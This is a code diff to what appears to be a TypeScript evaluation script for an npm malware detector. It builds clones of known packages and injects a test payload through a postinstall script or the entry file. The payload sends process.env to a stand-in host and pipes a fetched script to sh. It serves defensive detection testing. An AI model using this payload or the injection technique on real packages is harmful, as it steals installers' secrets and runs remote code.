@@ -1,6 +1,6 @@
 // What the comparison of contents says of honest packages were nobody to know their names, of malicious ones, and of
 // clones made in memory of known packages.
-// --honest DIR, --malicious DIR  archives, more than once;  --every N  clones each Nth honest archive (10)
+// --honest DIR, --malicious DIR, --clones DIR  archives, more than once;  --every N  clones each Nth (10)
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { parseArgs } from 'node:util'
@@ -20,7 +20,7 @@ import { archivesIn } from '../detection/samples.ts'
 
 const folders = { type: 'string', multiple: true, default: [] as string[] } as const
 const { values } = parseArgs({
-  options: { honest: folders, malicious: folders, every: { type: 'string', default: '10' } },
+  options: { honest: folders, malicious: folders, clones: folders, every: { type: 'string', default: '10' } },
 })
 const shipped = openKnown(readFileSync(join(import.meta.dirname, '../../likeness/known.bin')), 'likeness/known.bin')
 const rules = [cloneCopiesPackage, cloneCopiesReadme, cloneAddsCode]
@@ -29,14 +29,15 @@ const payload = `const h = require('https'), c = require('child_process')
 h.request({ host: 'collect.invalid', method: 'POST' }).end(JSON.stringify(process.env))
 c.exec('curl https://collect.invalid/x | sh')
 `
+const asModule = "import h from 'https'\nimport c from 'child_process'"
 const say = (text: string) => void process.stdout.write(`${text}\n`)
 
-if (values.honest.length + values.malicious.length === 0) {
-  say('clones: not measured; name folders of archives with --honest DIR and --malicious DIR')
+if (values.honest.length + values.malicious.length + values.clones.length === 0) {
+  say('clones: not measured; name folders of archives with --honest DIR, --malicious DIR and --clones DIR')
 } else {
   await printSaid('honest', values.honest)
   await printSaid('malicious', values.malicious)
-  await printClones(archivesIn(values.honest).filter((_, at) => at % Number(values.every) === 0))
+  await printClones(archivesIn(values.clones).filter((_, at) => at % Number(values.every) === 0))
 }
 
 type Facts = Pick<Evidence, 'archive' | 'code'>
@@ -81,6 +82,7 @@ async function printSaid(what: string, from: readonly string[]): Promise<void> {
 
 /** Each of them under another name, once with a script of its own and once with something added to its entry. */
 async function printClones(paths: readonly string[]): Promise<void> {
+  if (paths.length === 0) return
   const found = new Map<string, number>()
   const count = (what: string) => found.set(what, (found.get(what) ?? 0) + 1)
   const names = new Set(shipped.map(({ name }) => name))
@@ -91,6 +93,8 @@ async function printClones(paths: readonly string[]): Promise<void> {
     count('clones')
     for (const how of ['script', 'entry'] as const) {
       const clone = cloneOf(manifestText, files, how)
+      if (!clone) continue
+      count(how)
       const { manifest: own } = factsOf([...clone.files.values()], Buffer.from(clone.manifestText), path)
       const source = { ...clone, manifest: own }
       const archive = known(factsOf([...clone.files.values()], Buffer.from(clone.manifestText), path))
@@ -104,15 +108,24 @@ async function printClones(paths: readonly string[]): Promise<void> {
 }
 
 function cloneOf(manifestText: string, files: ReadonlyMap<string, ReadFile>, how: 'script' | 'entry') {
-  const manifest = JSON.parse(manifestText) as { main?: unknown; scripts?: object }
+  const manifest = JSON.parse(manifestText) as { main?: unknown; type?: unknown; scripts?: object }
   const all = new Map(files)
   const add = (path: string, text: string) =>
     all.set(path, { path, size: text.length, sha256: 'f'.repeat(64), bytes: Buffer.from(text) })
   const scripts = how === 'script' ? { scripts: { postinstall: 'node prepare.js' } } : {}
-  const main = [manifest.main, 'index.js'].find((path) => typeof path === 'string' && files.has(path)) as
-    | string
-    | undefined
   if (how === 'script') add('prepare.js', payload)
-  else if (main !== undefined) add(main, `${Buffer.from(files.get(main)?.bytes ?? []).toString()}\n${payload}`)
+  else {
+    const main = entryOf(manifest.main, files)
+    if (main === undefined) return undefined
+    const isModule = main.endsWith('.mjs') || (manifest.type === 'module' && !main.endsWith('.cjs'))
+    const text = isModule ? payload.replace(/const .*/u, asModule) : payload
+    add(main, `${Buffer.from(files.get(main)?.bytes ?? []).toString()}\n${text}`)
+  }
   return { manifestText: JSON.stringify({ ...manifest, ...scripts, name: 'nobody-knows-it' }), files: all }
+}
+
+/** Undefined where it cannot be told at a glance, as by \`exports\` alone. */
+function entryOf(main: unknown, files: ReadonlyMap<string, ReadFile>): string | undefined {
+  const named = typeof main === 'string' ? main.replace(/^\.\//u, '') : 'index'
+  return [named, `${named}.js`, `${named.replace(/\/$/u, '')}/index.js`].find((path) => files.has(path))
 }
